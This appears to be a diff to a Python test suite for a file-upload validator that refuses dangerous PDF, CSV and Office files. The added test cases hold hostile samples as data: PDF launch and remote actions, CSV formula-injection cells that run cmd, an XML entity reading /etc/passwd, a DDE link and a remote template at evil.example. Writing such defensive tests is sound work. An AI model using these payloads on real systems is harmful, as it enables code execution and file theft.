@@ -50,6 +50,8 @@ def picture(kind: str = "PNG", size: tuple[int, int] = (4, 3)) -> bytes:
         ("docx", office("word/document.xml")),
         ("csv", "编号;值\r\n1;2,5\n".encode()),
         ("csv", "编号,值".encode("gb18030")),
+        ("csv", b"a,-1.5,+2 mm,-,--,+86 512-1\n-3e-5;'-7;\"-8\";a=b;x@y\n"),
+        ("xlsx", office(xl__worksheets__sheet1_dot_xml=b"<c><f>SUM(A1:A9)</f></c>")),
         ("txt", "\ufeffplain".encode("utf-16-le")),
         ("txt", b"a < b & c"),
     ],
@@ -68,6 +70,10 @@ def test_an_honest_file_is_taken(ending: str, data: bytes) -> None:
         b"3 0 obj <</S/Launch/F(calc.exe)>> endobj",
         b"3 0 obj <</S /SubmitForm>> endobj",
         b"3 0 obj <</XFA[]>> endobj",
+        b"3 0 obj <</S/GoToR/F(//evil.example/share)>> endobj",
+        b"3 0 obj <</S/Rendition/R 4 0 R>> endobj",
+        b"3 0 obj <</Names<</EmbeddedFiles 4 0 R>>>> endobj",
+        b"3 0 obj <</Type/EmbeddedFile/Length 3>> endobj",
         b"trailer <</Encrypt 9 0 R>>",
     ],
 )
@@ -77,6 +83,12 @@ def test_a_pdf_that_acts_by_itself_or_is_locked_is_refused(inside: bytes) -> Non
 
 def test_a_script_packed_in_an_object_stream_is_found() -> None:
     assert "script" in KINDS["pdf"].fault(packed(b"3 0 <</S/JavaScript/JS(1)>>"))
+
+
+def test_a_script_is_found_behind_a_dictionary_of_any_length() -> None:
+    stream = zlib.compress(b"3 0 <</S/JavaScript/JS(1)>>")
+    padded = b"5 0 obj <</Type/ObjStm/X(%s)/Length %d>> stream\n%s\nendstream endobj"
+    assert "script" in KINDS["pdf"].fault(pdf(padded % (b"x" * 5000, len(stream), stream)))
 
 
 def test_a_pdf_whose_objects_swell_is_refused() -> None:
@@ -100,6 +112,31 @@ def test_a_truncated_pdf_is_refused() -> None:
 )
 def test_an_office_file_with_programs_inside_or_none_at_all_is_refused(data: bytes) -> None:
     assert KINDS["xlsx"].fault(data)
+
+
+@pytest.mark.urs("URS-020")
+@pytest.mark.parametrize(
+    "cell",
+    ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C'!A0", ' "=HYPERLINK(""http://x"")"', "＝1+1"],
+)
+def test_a_table_with_a_formula_is_refused(cell: str) -> None:
+    for line in (cell, f"a,{cell}", f"a;1\n{cell};2", f"a\t{cell}"):
+        assert "formula" in KINDS["csv"].fault(line.encode())
+
+
+@pytest.mark.parametrize(
+    ("inside", "fault"),
+    [
+        (b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "entities"),
+        ("<!DOCTYPE a>".encode("utf-16"), "entities"),
+        (b" " * (1024 * 1024 - 4) + b"<!ENTITY b 'c'>", "entities"),
+        (b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "elsewhere"),
+        (b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/"/>', "elsewhere"),
+    ],
+)
+def test_an_office_file_that_reaches_out_is_refused(inside: bytes, fault: str) -> None:
+    assert fault in KINDS["xlsx"].fault(office(xl__part_dot_xml=inside))
+    assert fault in KINDS["docx"].fault(office("word/document.xml", word___rels__a_dot_rels=inside))
 
 
 def test_a_zip_bomb_is_refused() -> None:
